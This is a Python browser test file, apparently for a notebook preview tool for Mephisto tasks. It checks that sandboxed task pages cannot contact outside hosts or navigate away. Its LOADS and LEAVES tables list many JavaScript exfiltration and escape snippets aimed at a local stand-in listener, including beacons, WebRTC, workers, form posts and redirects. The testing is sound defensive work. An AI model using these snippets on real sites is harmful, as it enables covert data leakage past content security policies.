"""Pages that are shown in a notebook have no address to reach, whatever they try; honest ones have all they need."""

from __future__ import annotations

import asyncio
import socket
from collections.abc import AsyncIterator
from contextlib import suppress
from pathlib import Path
from typing import Any

import pytest
import pytest_asyncio
from playwright.async_api import Page, expect

import mephisto_nb as mnb
from tests.browser.test_preview import TASK, frame_of
from tests.browser.test_review_page import frame, open_review, stage
from tests.display.stage import Stage
from tests.review.answers import stored_page_run

__all__ = ["stage"]

#: What a script may try, by its name; `E` is the address of somebody who listens, `U` a port of theirs.
LOADS = {
    "picture": "new Image().src = E",
    "pictures of other kinds": "body.insertAdjacentHTML('beforeend', '<img srcset=\"' + E + ' 2x\"><input type=image "
    "src=' + E + '><svg><image href=' + E + ' /><use href=\"' + E + '#a\" /></svg><video poster=' + E + '></video>')",
    "background": "body.style.backgroundImage = 'url(' + E + ')'",
    "style": "head(make('style', { textContent: '@import \"' + E + '\"; body { background: url(' + E + ') }' }))",
    "sheet": "head(make('link', { rel: 'stylesheet', href: E, nonce: N }))",
    "made sheet": "const s = new CSSStyleSheet(); s.replaceSync('body { background: url(' + E + ') }'); "
    "document.adoptedStyleSheets = [s]",
    "font": "new FontFace('x', 'url(' + E + ')').load().catch(() => {})",
    "script": "head(make('script', { src: E, nonce: N }))",
    "module": "head(make('script', { type: 'module', nonce: N, textContent: 'import \"' + E + '\"' }))",
    "import": "import(E).catch(() => {})",
    "rules": "head(make('script', { type: 'speculationrules', nonce: N, "
    "textContent: JSON.stringify({ prefetch: [{ source: 'list', urls: [E] }] }) }))",
    "hints": "for (const rel of ['prefetch', 'preload', 'modulepreload', 'preconnect', 'dns-prefetch', 'icon', "
    "'manifest', 'prerender']) head(make('link', { rel, href: E, as: 'image', nonce: N }))",
    "film": "body.append(make('video', { src: E })); new Audio(E).play().catch(() => {})",
    "object": "body.append(make('object', { data: E }), make('embed', { src: E }))",
    "fetch": "fetch(E).catch(() => {}); new XMLHttpRequest().open('GET', E)",
    "beacon": "navigator.sendBeacon(E, 'x')",
    "events": "new EventSource(E)",
    "worker": "new Worker(URL.createObjectURL(new Blob(['fetch(\"' + E + '\"); importScripts(\"' + E + '\")'])))",
    "peer": "const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:' + U }] }); "
    "p.createDataChannel('x'); p.createOffer().then((offer) => p.setLocalDescription(offer))",
    "parent": "const a = make('a', { href: E, target: '_parent' }); body.append(a); a.click()",
    "window": "open(E); const a = make('a', { href: E, target: '_blank' }); body.append(a); a.click()",
    "top": "const a = make('a', { href: E, target: '_top' }); body.append(a); a.click()",
    "frame": "body.append(make('iframe', { src: E }))",
    "frame with a script": "body.append(make('iframe', { srcdoc: '<img src=' + E + '><script nonce=' + N + '>' + PEER "
    "+ 'location=\"' + E + '\"</' + 'script>' }))",
    "frame with a blob": "const u = URL.createObjectURL(new Blob([PEER], { type: 'text/javascript' })); "
    "body.append(make('iframe', { srcdoc: '<script src=\"' + u + '\"></' + 'script>' }))",
    "report": "head(make('meta', { httpEquiv: 'Content-Security-Policy', content: 'report-uri ' + E }))",
}
#: What takes the page away, if it succeeds.
LEAVES = {
    "ping": "const a = make('a', { href: E, ping: E }); body.append(a); a.click()",
    "base": "document.head.prepend(make('base', { href: E })); const a = make('a', { href: 'x' }); a.click()",
    "location": "location = E",
    "refresh": "document.head.insertAdjacentHTML('beforeend', '<meta http-equiv=refresh content=\"0;url=' + E + '\">')",
    "link": "const a = make('a', { href: E }); body.append(a); a.click()",
    "form": "const f = make('form', { action: E, method: 'post' }); body.append(f); f.submit()",
    "form of its own": "const f = make('form', { action: E, target: '_blank' }); body.append(f); f.requestSubmit()",
    "navigation": "navigation.navigate(E)",
}
BEGIN = """const make = (tag, values) => Object.assign(document.createElement(tag), values);
const body = document.body, head = (one) => document.head.append(one);
const N = document.currentScript.nonce || document.currentScript.getAttribute("nonce");
const PEER = "const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:" + U + "' }] });"
  + "p.createDataChannel('x'); p.createOffer().then((offer) => p.setLocalDescription(offer));";"""


def page_that(*tries: str, listener: Listener) -> str:
    known = f"const E = {listener.address!r}, U = {listener.udp_port};"
    code = "\n".join(f"try {{ {one} }} catch (error) {{ document.body.title = error; }}" for one in tries)
    return f"<p>${{text}}</p><label>Mood <input name=mood></label><script>{known}{BEGIN}\n{code}</script>"


class Listener:
    """Somebody who waits for what a page sends; `heard` is what came."""

    def __init__(self) -> None:
        self.heard: list[str] = []
        self._udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)

    async def start(self) -> None:
        self._udp.bind(("127.0.0.1", 0))
        self._udp.setblocking(False)
        self.udp_port = self._udp.getsockname()[1]
        self._server = await asyncio.start_server(self._take, "127.0.0.1", 0)
        self.address = f"http://127.0.0.1:{self._server.sockets[0].getsockname()[1]}/"

    async def _take(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        line = (await reader.readline()).decode("latin-1").strip()
        self.heard += [line] if line else []  # a browser may open a connection before it decides not to ask
        writer.write(
            b"HTTP/1.1 200 OK\r\nAccess-Control-Allow-Origin: *\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
        )
        writer.close()

    async def hear_out(self, page: Page) -> list[str]:
        """Return all that came before this browser's own last question, and datagrams."""
        for _ in range(5):
            await page.evaluate("url => fetch(url, { mode: 'no-cors' })", f"{self.address}last")
        # A peer's first datagram comes a little later than what is asked by HTTP.
        await page.wait_for_timeout(300)
        with suppress(BlockingIOError):
            self.heard.append(f"datagram of {len(self._udp.recv(4096))} bytes")
        return [line for line in self.heard if "/last" not in line]

    async def stop(self) -> None:
        self._udp.close()
        self._server.close()


@pytest_asyncio.fixture(loop_scope="session")
async def listener() -> AsyncIterator[Listener]:
    one = Listener()
    await one.start()
    yield one
    await one.stop()


def shown(html: str, **settings: Any) -> str:
    config = mnb.compose("static_html", task={**TASK, **settings}, blueprint_args={"task_html": html})
    return mnb.preview(config, mnb.SharedTaskState(static_task_data=[{"text": "Rain"}]))._repr_html_()


async def test_a_page_in_a_preview_loads_nothing_from_anybody(page: Page, listener: Listener) -> None:
    await page.set_content(shown(page_that(*LOADS.values(), listener=listener)))
    await expect(frame_of(page).get_by_text("Rain")).to_be_visible()
    await frame_of(page).get_by_label("Mood").fill("calm")
    await frame_of(page).get_by_role("button", name="Send").click()
    await expect(frame_of(page).get_by_text('"mood": "calm"')).to_be_visible()
    assert await listener.hear_out(page) == []
    assert len(page.context.pages) == 1


@pytest.mark.parametrize("way", LEAVES)
async def test_a_page_in_a_preview_cannot_be_left(page: Page, listener: Listener, way: str) -> None:
    await page.set_content(shown(page_that(LEAVES[way], listener=listener)))
    await expect(page.locator(".mephisto-preview iframe")).to_be_visible()
    assert await listener.hear_out(page) == []
    assert page.url == "about:blank"


async def test_a_link_that_somebody_clicks_leads_nowhere(page: Page, listener: Listener) -> None:
    link = f'<p>${{text}}</p><a href="{listener.address}">more</a><input name=mood>'
    await page.set_content(shown(link))
    await frame_of(page).get_by_role("link", name="more").click()
    await expect(frame_of(page).get_by_text("Links to other pages lead nowhere here.")).to_be_visible()
    assert await listener.hear_out(page) == []


#: A driven Chromium ends where a worker of a frame fails on a page that calls back, as this one does.
IN_REVIEW = [code for name, code in LOADS.items() if name != "worker"]


@pytest.mark.parametrize("tries", [IN_REVIEW, [LEAVES["location"]]], ids=["loads", "leaves"])
async def test_a_page_in_the_review_reaches_nobody(stage: Stage, listener: Listener, tries: list[str]) -> None:
    html = page_that(*tries, listener=listener)
    await open_review(stage, stored_page_run(stage.operator, html, [(0, "ann", {"mood": "calm"}, 9.0)]))
    await expect(stage.page.locator("iframe.mnb-page")).to_be_visible()
    assert await listener.hear_out(stage.page) == []
    assert len(stage.page.context.pages) == 1


async def test_an_answer_is_shown_on_its_page_with_its_pictures(stage: Stage) -> None:
    await open_review(stage, stored_page_run(stage.operator, "<p>${text}</p><input name=mood aria-label=Mood>", [
        (0, "ann", {"mood": "calm"}, 9.0)
    ]))  # fmt: skip
    await expect(frame(stage).get_by_label("Mood")).to_have_value("calm")


async def test_a_picture_of_the_extra_folder_is_shown(page: Page, tmp_path: Path) -> None:
    (tmp_path / "extra").mkdir()
    (tmp_path / "extra" / "cat.svg").write_text('<svg xmlns="http://www.w3.org/2000/svg" width="37" height="37" />')
    about = {"task_html": "<img src='${img}' alt=cat><input name=mood>", "extra_source_dir": str(tmp_path / "extra")}
    config = mnb.compose("static_html", task=TASK, blueprint_args=about)
    await page.set_content(
        mnb.preview(config, mnb.SharedTaskState(static_task_data=[{"img": "cat.svg"}]))._repr_html_()
    )
    picture = frame_of(page).get_by_alt_text("cat")
    await expect(picture).to_be_visible()
    assert await picture.evaluate("async one => { await one.decode(); return one.naturalWidth; }") == 37


async def test_other_sites_are_asked_where_the_researcher_says_so(page: Page, listener: Listener) -> None:
    html = f'<img src="{listener.address}cat.png" alt=cat><p>${{text}}</p><input name=mood>'
    await page.set_content(shown(html))
    await expect(frame_of(page).get_by_text("Nothing is loaded from other sites here.")).to_be_visible()
    assert await listener.hear_out(page) == []
    await page.set_content(shown(html, preview_sources=[listener.address]))
    await expect(frame_of(page).get_by_text("Rain")).to_be_visible()
    assert await listener.hear_out(page) == ["GET /cat.png HTTP/1.1"]
